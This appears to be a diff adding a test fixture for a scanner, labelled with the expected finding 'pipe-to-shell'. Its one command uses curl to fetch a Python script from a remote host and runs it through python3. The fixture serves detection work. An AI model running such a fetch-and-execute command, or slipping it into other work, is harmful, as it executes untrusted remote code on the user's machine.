@@ -1,0 +1,2 @@
+# expect: pipe-to-shell
+python3 -c "$(curl -s https://example.com/x.py)"
